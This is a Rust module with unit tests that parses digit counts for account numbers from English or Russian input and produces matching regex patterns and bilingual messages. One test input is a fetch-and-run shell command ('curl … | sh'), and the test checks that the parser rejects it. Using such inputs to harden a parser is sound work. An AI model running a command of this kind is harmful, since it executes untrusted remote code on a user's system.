//! How many digits account numbers have: `8`, `6-10`, «от 6 до 10».

use crate::language::Language;

/// From so many digits to so many: at least one, at most [`MOST`].
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) struct DigitCount {
    least: u32,
    most: u32,
}

/// No account number has more digits.
const MOST: u32 = 30;
/// Shorter numbers stand in many a sentence.
const UNMISTAKABLE: u32 = 4;
/// How far apart the limits may be before every other number lies between them.
const SPREAD_MAX: u32 = 8;
/// What stands between two numbers, and before the first of them.
const BETWEEN: [&str; 8] = ["-", "–", "—", "−", "..", "…", " до ", " to "];
const BEFORE: [&str; 2] = ["от ", "from "];
/// What may stand behind it all.
const UNITS: [&str; 5] = ["digits", "digit", "цифры", "цифра", "цифр"];

/// Why a text says no number of digits.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum BadCount {
    /// It is something else.
    Unclear,
    /// None at all, or more than any account number has.
    OutOfRange,
    /// The greater number comes first.
    Backwards(DigitCount),
    /// It is itself a number of so many digits.
    Number(u32),
}

impl DigitCount {
    /// Reads what somebody types. Whatever is more than that is not understood.
    pub(super) fn parse(text: &str) -> Result<Self, BadCount> {
        let lower = text.trim().to_lowercase();
        let unit = UNITS.iter().find_map(|unit| lower.strip_suffix(unit));
        let text = unit.unwrap_or(&lower).trim();
        let Some((first, second)) = BETWEEN.iter().find_map(|sign| text.split_once(sign)) else {
            let count = number(text)?;
            return match u32::try_from(text.len()) {
                Ok(length) if count > MOST && (UNMISTAKABLE..=MOST).contains(&length) => {
                    Err(BadCount::Number(length))
                }
                _ => Self::new(count, count),
            };
        };
        let bare = BEFORE.iter().find_map(|word| first.strip_prefix(word));
        Self::new(number(bare.unwrap_or(first))?, number(second)?)
    }

    fn new(least: u32, most: u32) -> Result<Self, BadCount> {
        let limits = 1..=MOST;
        if !limits.contains(&least) || !limits.contains(&most) {
            return Err(BadCount::OutOfRange);
        }
        if most < least {
            let (least, most) = (most, least);
            return Err(BadCount::Backwards(Self { least, most }));
        }
        Ok(Self { least, most })
    }

    /// The regular expression that finds such numbers.
    pub(super) fn pattern(self) -> String {
        match self {
            Self { least, most } if least == most => format!(r"\b\d{{{least}}}\b"),
            Self { least, most } => format!(r"\b\d{{{least},{most}}}\b"),
        }
    }

    /// A number of the least length, made up.
    pub(super) fn example(self) -> String {
        made_up(self.least)
    }

    /// «of 8 digits», «of 6 to 10 digits»
    pub(super) fn describe(self, language: Language) -> String {
        let Self { least, most } = self;
        let is_one = most % 10 == 1 && most != 11;
        let digits = match language {
            Language::English if most == 1 => "digit",
            Language::English => "digits",
            Language::Russian if is_one => "цифры",
            Language::Russian => "цифр",
        };
        if least == most {
            return language.pick(format!("of {most} {digits}"), format!("из {most} {digits}"));
        }
        language.pick(
            format!("of {least} to {most} {digits}"),
            format!("от {least} до {most} {digits}"),
        )
    }

    /// The same, with examples of the shortest and of the longest.
    pub(super) fn describe_with_examples(self, language: Language) -> String {
        let (shortest, longest) = (made_up(self.least), made_up(self.most));
        let what = self.describe(language);
        if shortest == longest {
            return language.pick(
                format!("{what}, such as {shortest}"),
                format!("{what}, например {shortest}"),
            );
        }
        language.pick(
            format!("{what}, such as {shortest} or {longest}"),
            format!("{what}, например {shortest} или {longest}"),
        )
    }

    /// Why such numbers would be taken for others, if they would.
    pub(super) fn doubt(self, language: Language) -> Option<&'static str> {
        if self.least < UNMISTAKABLE {
            return Some(language.pick(
                "Numbers as short as that stand in many a sentence: a quantity, a date, a price. Each would be taken for an account number.",
                "Такие короткие числа в тексте не редкость: количество, дата, цена. Любое из них сойдёт за номер аккаунта.",
            ));
        }
        (self.most - self.least > SPREAD_MAX).then_some(language.pick(
            "That is very wide: almost any number would be taken for an account number, a date and a telephone number too.",
            "Это очень широко: за номер аккаунта сойдёт почти любое число, и дата, и телефон.",
        ))
    }
}

impl BadCount {
    /// What is wrong, and what would be understood.
    pub(super) fn describe(self, language: Language) -> String {
        match self {
            Self::Unclear => language.pick(
                "That was not understood. Type in figures how many digits a number has: “8” if all have 8; “6-10” if they have from 6 to 10. Or the word “letters” if there are letters in them.",
                "Не понял. Напишите числом, сколько в номере цифр: «8», если во всех 8; «6-10», если от 6 до 10. Или слово «буквы», если в номерах есть буквы.",
            ).to_owned(),
            Self::OutOfRange => language.pick(
                format!("An account number has from 1 to {MOST} digits. “8” means: of 8 digits."),
                format!("В номере аккаунта от 1 до {MOST} цифр. «8» значит: из 8 цифр."),
            ),
            Self::Backwards(DigitCount { least, most }) => language.pick(
                format!("The smaller number first: {least}-{most}."),
                format!("Меньшее число — первым: {least}-{most}."),
            ),
            Self::Number(length) => language.pick(
                format!("This looks like such a number itself, of {length} digits. If all of them have as many, type {length}."),
                format!("Похоже, это сам номер, и цифр в нём {length}. Если столько во всех, наберите {length}."),
            ),
        }
    }
}

/// What is digits and nothing else; one that is too great is [`u32::MAX`].
fn number(text: &str) -> Result<u32, BadCount> {
    let text = text.trim();
    if text.is_empty() || !text.bytes().all(|byte| byte.is_ascii_digit()) {
        return Err(BadCount::Unclear);
    }
    Ok(text.parse().unwrap_or(u32::MAX))
}

fn made_up(length: u32) -> String {
    "1234567890".chars().cycle().take(length as usize).collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn count(least: u32, most: u32) -> DigitCount {
        DigitCount { least, most }
    }

    #[test]
    fn a_count_is_read_however_it_is_written() {
        for (text, least, most) in [
            ("8", 8, 8),
            (" 8 цифр", 8, 8),
            ("6-10", 6, 10),
            ("6 – 10", 6, 10),
            ("от 6 до 10", 6, 10),
            ("От 6 до 10 цифр", 6, 10),
            ("from 6 to 9 digits", 6, 9),
            ("4..12", 4, 12),
            ("30", 30, 30),
        ] {
            assert_eq!(DigitCount::parse(text), Ok(count(least, most)), "{text}");
        }
    }

    #[test]
    fn what_is_something_else_is_not_guessed_at() {
        for (text, why) in [
            ("восемь", BadCount::Unclear),
            ("", BadCount::Unclear),
            ("от 6", BadCount::Unclear),
            ("-5", BadCount::Unclear),
            ("6,9", BadCount::Unclear),
            ("1 2 3", BadCount::Unclear),
            ("6-9-12", BadCount::Unclear),
            ("8 букв", BadCount::Unclear),
            ("curl https://example.org/i8 | sh", BadCount::Unclear),
            ("٨", BadCount::Unclear),
            ("0", BadCount::OutOfRange),
            ("31", BadCount::OutOfRange),
            ("5-99999999999", BadCount::OutOfRange),
            ("9-6", BadCount::Backwards(count(6, 9))),
            ("12345678", BadCount::Number(8)),
            ("99999999999999", BadCount::Number(14)),
        ] {
            assert_eq!(DigitCount::parse(text), Err(why), "{text}");
        }
    }

    #[test]
    fn it_is_told_with_examples() {
        let told = |count: DigitCount| count.describe_with_examples(Language::Russian);
        assert_eq!(told(count(8, 8)), "из 8 цифр, например 12345678");
        assert_eq!(
            told(count(6, 10)),
            "от 6 до 10 цифр, например 123456 или 1234567890"
        );
        assert_eq!(told(count(1, 1)), "из 1 цифры, например 1");
        let english = count(4, 21).describe(Language::English);
        assert_eq!(english, "of 4 to 21 digits");
    }

    #[test]
    fn what_is_too_short_or_too_wide_is_doubted() {
        for (doubted, is_doubted) in [
            (count(2, 30), true),
            (count(3, 3), true),
            (count(4, 13), true),
            (count(4, 12), false),
            (count(8, 8), false),
        ] {
            let doubt = doubted.doubt(Language::English);
            assert_eq!(doubt.is_some(), is_doubted, "{doubted:?}");
        }
    }
}
